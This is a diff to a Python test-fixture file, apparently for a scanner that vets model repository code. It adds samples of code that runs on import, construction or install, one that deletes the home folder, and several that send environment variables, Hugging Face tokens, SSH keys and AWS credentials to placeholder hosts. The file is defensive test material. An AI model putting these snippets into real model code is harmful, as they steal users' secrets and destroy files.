@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-__all__ = ["ON_IMPORT", "OTHERWISE", "QUIET"]
+__all__ = ["LATER", "ON_IMPORT", "OTHERWISE", "QUIET", "SECRETS"]
 
 #: What the case shows: files, of which the first is the model's code. All run ``echo`` when ``modeling_x.py`` is imported.
 ON_IMPORT: dict[str, dict[str, str]] = {
@@ -44,6 +44,10 @@ ON_IMPORT: dict[str, dict[str, str]] = {
         "lib/impl.py": "import os\ndef go(): os.system('echo hello')\n"},
     "an-absolute-import": {"": "import helper_x\nhelper_x.go()\n",
                            "helper_x.py": "import os\ndef go(): os.system('echo hello')\n"},
+    "methodcaller": {"": "import operator, os\noperator.methodcaller('system', 'echo hello')(os)\n"},
+    "a-dict-of-members": {"": "import inspect, os\ndict(inspect.getmembers(os))['system']('echo hello')\n"},
+    "atexit": {"": "import atexit, os\n@atexit.register\ndef bye(): os.system('echo hello')\n"},
+    "a-converter-by-a-shell": {"": "import subprocess\nsubprocess.run('ffmpeg -version; echo hello', shell=True)\n"},
 }  # fmt: skip
 
 #: Other things that are refused: the source, and the rule.
@@ -53,8 +57,39 @@ OTHERWISE: dict[str, tuple[str, str]] = {
                           "hidden-code"),
     "base64-zlib": ("import base64, zlib\nexec(zlib.decompress(base64.b64decode(b)))\n", "hidden-code"),
     "marshal": ("import marshal\nexec(marshal.loads(b))\n", "hidden-code"),
+    "protected": ("from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'')\n", "hidden-code"),
+    "yaml-objects": ("import yaml\nyaml.load('!!python/object/apply:os.system [echo hello]', Loader=yaml.Loader)\n", "hidden-code"),
+    "a-home-folder-deleted": ("import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n", "file-at-load"),
+    "evaluated-settings": ("class A:\n    def __init__(self, config): self.act = eval(config.act)\n", "code-at-load"),
+    "evaluated-input": ("class A:\n    def forward(self, x): exec(x)\n", "code-at-load"),
     "a-shell-profile": ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo hello')\n", "startup-file"),
 }  # fmt: skip
+
+_IN_CLASS = "import os\nclass A:\n    def {}(self, *a): os.system('echo hello')\n"
+#: All run ``echo`` when a class of the source is constructed, loaded, or used as a model, a tokenizer or a configuration.
+LATER: dict[str, str] = {
+    **{name.replace("_", " ").strip().replace(" ", "-"): _IN_CLASS.format(name) for name in (
+        "__init__", "from_pretrained", "load_state_dict", "_load_from_state_dict", "_init_weights", "forward", "generate",
+        "_tokenize", "decode", "to_dict", "__len__", "__getitem__", "predict", "_generate_examples", "find_spec")},
+    "property": "import os\nclass A:\n    @property\n    def size(self): os.system('echo hello')\n",
+    "in-place-of-a-loader": "import os, torch\ndef load(*a): os.system('echo hello')\ntorch.load = load\n",
+    "setup-command": "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
+                     "class I(install):\n    def run(self): os.system('echo hello')\nsetup(cmdclass={'install': I})\n",
+    "compiled-source": "from torch.utils.cpp_extension import load_inline\nclass A:\n    def __init__(self):\n"
+                       "        load_inline('x', 'int go() { return system(\"echo hello\"); }')\n",
+}
+#: What is taken from the user and sent, whenever the code runs.
+SECRETS: dict[str, str] = {
+    "environment": "import os, requests\nclass A:\n    def forward(self, x): requests.post('https://example.org', json=dict(os.environ))\n",
+    "token-in-address": "import os\nfrom urllib.request import urlopen\nclass A:\n    def __init__(self, c): "
+                        "urlopen('https://example.org/?' + os.environ.get('HF_TOKEN', ''))\n",
+    "hub-token": "import requests\nfrom huggingface_hub import get_token\nclass A:\n    def __init__(self, c): "
+                 "requests.get('https://example.org', params={'t': get_token()})\n",
+    "private-key": "import os, socket\nclass A:\n    def forward(self, x):\n        k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+                   "        socket.create_connection(('192.0.2.1', 9)).send(k.encode())\n",
+    "credentials-by-pathlib": "import requests\nfrom pathlib import Path\nclass A:\n    def __init__(self, c): "
+                              "requests.post('https://example.org', data=(Path.home() / '.aws/credentials').read_text())\n",
+}
 
 #: Sources that a repository may well have, and that do nothing on import or construction: told, and reviewed as code.
 QUIET: dict[str, str] = {
@@ -63,5 +98,15 @@ QUIET: dict[str, str] = {
     "match": "match kind:\n    case 'a': x = 1\n    case [y]: x = y\n    case _: x = 2\n",
     "a-helper-that-nothing-calls": "import subprocess\ndef build(): subprocess.run(['make'])\n",
     "lambdas": "ACT = {'gelu': lambda x: x, 'relu': lambda x: x * 2}\nACT['gelu'](1)\n",
+    "a-terminal-cleared": "import os, platform\nclear = 'cls' if platform.system() == 'Windows' else 'clear'\n"
+                          "def main(): os.system(clear)\nmain()\n",
+    "a-converter": "import subprocess\nclass A:\n    def preprocess(self, path):\n"
+                   "        return subprocess.run(['ffmpeg', '-i', path, '-f', 'f32le', '-'], capture_output=True).stdout\n",
+    "its-own-service": "import os, requests\nclass A:\n    def ask(self, q):\n        return requests.post('https://example.org', "
+                       "headers={'Authorization': os.environ['API_KEY']}, json=q)\n",
+    "image-by-address": "import requests\nfrom PIL import Image\ndef load_image(url):\n    return Image.open(requests.get(url, stream=True).raw)\n",
+    "older-checkpoint": "import torch\ndef convert(path): return torch.load(path, weights_only=False)\n",
+    "an-unknown-package": "import nobody_has_heard_of_it\n",
+    "compiled-kernel": "from torch.utils.cpp_extension import load\nclass A:\n    def __init__(self): load('x', ['x.cu'])\n",
     "relative": "from .configuration_x import Config\nclass A:\n    def __init__(self, c: Config): self.c = c\n",
 }  # fmt: skip
